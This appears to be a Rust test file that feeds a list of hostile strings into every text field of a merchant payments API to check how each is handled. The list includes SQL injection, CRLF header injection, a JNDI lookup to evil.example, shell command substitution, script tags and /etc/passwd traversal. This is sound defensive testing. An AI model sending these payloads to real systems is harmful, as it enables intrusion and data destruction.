//! The texts that mean something elsewhere, and every field of the merchant API that takes a text.
//! What becomes of them is judged in `injection`.

use antom_tests::{Failure, Proof, ensure};
use serde_json::{Value, json};

/// What is tried in every field; each holds a letter, so that it is never blank.
pub(crate) const TEXTS: [&str; 30] = [
    "a\nb",
    "a\r\nSet-Cookie: b=c",
    "a\0b",
    "a\tb",
    "a\u{1b}[2J\u{1b}[31mb",
    "a\u{7f}b",
    "a\u{85}b",
    "a\u{2028}b",
    "a\u{202e}b",
    "a\u{feff}b",
    "a\u{200b}b",
    "é",
    "a\u{1f600}",
    "a'",
    "a\"",
    "a`b",
    "a\\",
    "a'; DROP TABLE orders; --",
    "a' OR '1'='1",
    "a\"; DROP TABLE orders; --",
    "a'); ATTACH DATABASE 'x' AS y; --",
    "a%' ESCAPE '%",
    "a\"}\n{\"level\":\"ERROR\",\"message\":\"b\"}",
    "a%s%n%x%p",
    "a{}{0}{{b}}",
    "${jndi:ldap://evil.example/a}",
    "$(id)`id`|id;id&&id",
    "<script>alert('a')</script>",
    "../../../etc/passwd",
    "a%00%0d%0ab",
];

/// Every text of an order's request.
pub(crate) const OF_ORDERS: [&str; 22] = [
    "referenceOrderId",
    "description",
    "amount.currency",
    "amount.value",
    "buyer.referenceBuyerId",
    "buyer.buyerName.firstName",
    "buyer.buyerName.middleName",
    "buyer.buyerName.lastName",
    "buyer.buyerName.fullName",
    "buyer.buyerPhoneNo",
    "buyer.buyerEmail",
    "buyer.buyerRegistrationTime",
    "goods[0].referenceGoodsId",
    "goods[0].goodsName",
    "goods[0].goodsCategory",
    "goods[0].goodsBrand",
    "goods[0].goodsUnitAmount.currency",
    "goods[0].goodsUnitAmount.value",
    "goods[0].goodsQuantity",
    "goods[0].goodsSkuName",
    "goods[0].goodsUrl",
    "goods[0].deliveryMethodType",
];

/// Every text of a payment's request.
pub(crate) const OF_PAYMENTS: [&str; 20] = [
    "integration",
    "productScene",
    "paymentMethodType",
    "captureMode",
    "terminalType",
    "osType",
    "clientIp",
    "settlementCurrency",
    "card.cardToken",
    "card.recurringType",
    "card.networkTransactionId",
    "card.selectedCardBrand",
    "card.paymentMethodRegion",
    "card.storeCard.agreedAt",
    "card.billingAddress.region",
    "card.billingAddress.state",
    "card.billingAddress.city",
    "card.billingAddress.address1",
    "card.billingAddress.address2",
    "card.billingAddress.zipCode",
];

pub(crate) const OF_CONSULT: [&str; 9] = [
    "amount.currency",
    "amount.value",
    "terminalType",
    "osType",
    "userRegion",
    "settlementCurrency",
    "allowedPaymentMethodRegions[0]",
    "allowedPaymentMethods[0]",
    "blockedPaymentMethods[0]",
];

#[test]
fn the_tables_name_every_text_that_the_document_names() -> Proof {
    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/openapi.json");
    let document: Value = serde_json::from_str(&std::fs::read_to_string(file).map_err(Failure::from)?)
        .map_err(|error| Failure::step("it is JSON", error))?;
    let tables = [
        ("/v1/orders", OF_ORDERS.as_slice()),
        ("/v1/orders/{id}/payments", &OF_PAYMENTS),
        ("/v1/consult", &OF_CONSULT),
        ("/v1/payments/{id}/capture", &["captureRequestId", "amount.currency", "amount.value"]),
        ("/v1/payments/{id}/refunds", &["reason", "refundRequestId", "amount.currency", "amount.value"]),
    ];
    for (path, table) in tables {
        let schema = &document["paths"][path]["post"]["requestBody"]["content"]["application/json"]["schema"];
        let mut texts = Vec::new();
        collect(&document, schema, "", &mut texts);
        ensure(!texts.is_empty(), "the document names texts", &json!(path))?;
        texts.retain(|text| !table.contains(&text.as_str()));
        ensure(texts.is_empty(), "each is in the table", &json!([path, texts]))?;
    }
    Ok(())
}

/// The paths of all texts of a schema.
fn collect(document: &Value, schema: &Value, path: &str, texts: &mut Vec<String>) {
    if let Some(name) = schema["$ref"].as_str() {
        let target = document.pointer(name.trim_start_matches('#')).unwrap_or(&Value::Null);
        return collect(document, target, path, texts);
    }
    for part in ["allOf", "oneOf", "anyOf"].iter().filter_map(|name| schema[*name].as_array()).flatten() {
        collect(document, part, path, texts);
    }
    let is_text = schema["type"] == "string"
        || schema["type"].as_array().is_some_and(|types| types.contains(&json!("string")));
    if is_text {
        texts.push(path.to_owned());
    }
    if schema["items"].is_object() {
        collect(document, &schema["items"], &format!("{path}[0]"), texts);
    }
    for (name, member) in schema["properties"].as_object().into_iter().flatten() {
        let path = if path.is_empty() { name.clone() } else { format!("{path}.{name}") };
        collect(document, member, &path, texts);
    }
}

/// Puts a text at a path such as `goods[0].goodsName`, and makes what is missing on the way.
pub(crate) fn put(body: &mut Value, path: &str, text: &str) {
    let mut place = body;
    for name in path.split('.') {
        place = match name.strip_suffix("[0]") {
            Some(list) => {
                let list = &mut place[list];
                if !list.is_array() {
                    *list = json!([null]);
                }
                &mut list[0]
            }
            None => &mut place[name],
        };
    }
    *place = json!(text);
}

/// What must stand beside some fields, so that nothing else is wrong.
pub(crate) fn surroundings(path: &str, body: &mut Value) {
    if path.starts_with("goods[0].") {
        for (name, usual) in [("referenceGoodsId", "goods-1"), ("goodsName", "Tea")] {
            put(body, &format!("goods[0].{name}"), usual);
        }
    }
    if path.starts_with("goods[0].goodsUnitAmount") {
        body["goods"][0]["goodsUnitAmount"] = json!({"currency": "USD", "value": "1000"});
    }
    if path.starts_with("card.billingAddress") {
        put(body, "card.billingAddress.region", "US");
    }
    if path == "card.recurringType" || path == "card.networkTransactionId" {
        put(body, "card.cardToken", "a-token");
    }
    if path == "osType" {
        put(body, "terminalType", "APP");
    }
}
